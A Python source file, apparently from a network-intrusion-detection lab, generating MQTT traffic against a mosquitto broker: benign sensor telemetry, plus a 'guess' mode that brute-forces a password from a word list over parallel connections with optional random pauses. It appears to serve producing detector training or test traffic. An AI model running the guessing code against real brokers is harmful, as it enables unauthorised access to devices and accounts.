"""MQTT clients for the lab: benign telemetry and password guessing, through paho-mqtt.

Both speak to the victim's mosquitto broker (password file, no anonymous access):

* ``telemetry`` (benign): sensors that publish a small reading every few seconds,
  some over one long-lived connection with keep-alive pings, some connecting anew
  for every reading (as cron scripts and battery devices do), with the right password;
* ``guess`` (attack): CONNECT after CONNECT with the same user name and the next
  password of a word list, ``--parallel`` at a time, each on its own TCP connection
  (the broker answers "not authorised" and closes it), as MQTT brute-force tools do.

Run inside a lab namespace (the lab's virtual environment has paho-mqtt, the ``mqtt`` extra)::

    python mqttlike.py telemetry --server 192.0.2.10 --bind 203.0.113.5 --user u --password p \
        --sensors 4 --seconds 60 --seed 3
    python mqttlike.py guess --server 192.0.2.10 --user u --wordlist words.txt --parallel 4
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import threading
import time
from collections.abc import Sequence

__all__ = ["attempt", "main"]


def _paho():  # paho's client module, imported only when used
    try:
        import paho.mqtt.client as mqtt
    except ImportError:
        sys.exit("mqttlike: needs paho-mqtt (pip install 'edge-nids[mqtt]')")
    return mqtt


def attempt(
    server: str, user: str, password: str, bind: str = "", client_id: str = "", timeout_s: float = 5.0
) -> bool | None:
    """One CONNECT with ``user``/``password`` on a new connection: True if accepted, False if
    refused, None if the broker did not answer in time. Disconnects either way."""
    mqtt = _paho()
    result: list[bool] = []
    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id)
    client.username_pw_set(user, password)
    client.on_connect = lambda c, u, f, reason, p: result.append(not reason.is_failure)
    try:
        client.connect(server, 1883, keepalive=30, bind_address=bind)
    except OSError:
        return None
    end = time.monotonic() + timeout_s
    while not result and time.monotonic() < end:
        if client.loop(timeout=0.2) != mqtt.MQTT_ERR_SUCCESS and not result:
            break  # the broker closed the connection
    if result and result[0]:
        client.disconnect()
        client.loop(timeout=0.2)
    sock = client.socket()
    if sock is not None:
        sock.close()
    return result[0] if result else None


def _sensor(args: argparse.Namespace, idx: int, rng: random.Random, end: float) -> None:
    mqtt = _paho()
    topic = f"lab/site{rng.randrange(4)}/sensor{idx}"
    interval = rng.choice([1.0, 2.0, 5.0])
    persistent = rng.random() < 0.6
    client = None
    while time.monotonic() < end:
        reading = json.dumps({"t": round(time.time(), 1), "v": round(rng.gauss(21.0, 2.0), 2)})
        if client is None:
            client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=f"sensor-{args.seed}-{idx}")
            client.username_pw_set(args.user, args.password)
            try:
                client.connect(args.server, 1883, keepalive=rng.choice([5, 10, 30]), bind_address=args.bind)
            except OSError:
                client = None
                time.sleep(interval)
                continue
            client.loop_start()
        client.publish(topic, reading, qos=rng.choice([0, 1]))
        if not persistent:
            time.sleep(0.05)
            client.disconnect()
            client.loop_stop()
            client = None
        time.sleep(interval * rng.uniform(0.8, 1.2))
    if client is not None:
        client.disconnect()
        client.loop_stop()


def _telemetry(args: argparse.Namespace) -> int:
    rng = random.Random(args.seed)
    end = time.monotonic() + args.seconds
    threads = [
        threading.Thread(target=_sensor, args=(args, i, random.Random(rng.random()), end), daemon=True)
        for i in range(args.sensors)
    ]
    for t in threads:
        t.start()
        time.sleep(rng.uniform(0.0, 1.0))
    for t in threads:
        t.join(args.seconds + 10)
    return 0


def _guess(args: argparse.Namespace) -> int:
    with open(args.wordlist, encoding="utf-8") as fh:
        words = [w.strip() for w in fh if w.strip()]
    end = time.monotonic() + args.max_seconds
    lock = threading.Lock()
    found: list[str] = []
    rng = random.Random(args.seed)

    def worker(k: int) -> None:
        while time.monotonic() < end and not found:
            with lock:
                if not words:
                    return
                pw = words.pop(0)
            if attempt(args.server, args.user, pw, client_id=f"c{k}{rng.randrange(10**6)}"):
                found.append(pw)
            if args.pause_max > 0:
                time.sleep(rng.uniform(0.0, args.pause_max))

    threads = [threading.Thread(target=worker, args=(k,), daemon=True) for k in range(args.parallel)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(args.max_seconds + 10)
    print("found" if found else "not found", file=sys.stderr)
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="mqttlike.py", description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="mode", required=True)
    t = sub.add_parser("telemetry", help="benign sensors publishing readings")
    t.add_argument("--server", required=True)
    t.add_argument("--bind", default="")
    t.add_argument("--user", required=True)
    t.add_argument("--password", required=True)
    t.add_argument("--sensors", type=int, default=4)
    t.add_argument("--seconds", type=float, default=60.0)
    t.add_argument("--seed", type=int, default=0)
    g = sub.add_parser("guess", help="password guessing, a new connection per guess")
    g.add_argument("--server", required=True)
    g.add_argument("--user", required=True)
    g.add_argument("--wordlist", required=True)
    g.add_argument("--parallel", type=int, default=1)
    g.add_argument("--pause-max", type=float, default=0.0, help="random pause after each guess, s")
    g.add_argument("--max-seconds", type=float, default=120.0)
    g.add_argument("--seed", type=int, default=0)
    args = p.parse_args(argv)
    return _telemetry(args) if args.mode == "telemetry" else _guess(args)


if __name__ == "__main__":
    sys.exit(main())
